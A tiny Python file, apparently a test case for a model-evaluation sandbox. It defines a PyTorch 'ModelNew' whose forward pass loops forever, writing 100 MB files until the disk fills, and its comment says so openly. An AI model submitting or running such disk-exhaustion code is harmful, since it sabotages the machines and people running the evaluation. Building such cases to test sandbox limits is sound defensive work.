# relu crash: it fills its own folder until somebody stops it
import os

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        number = 0
        while True:
            number += 1
            with open(f"{number}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 100 << 20)
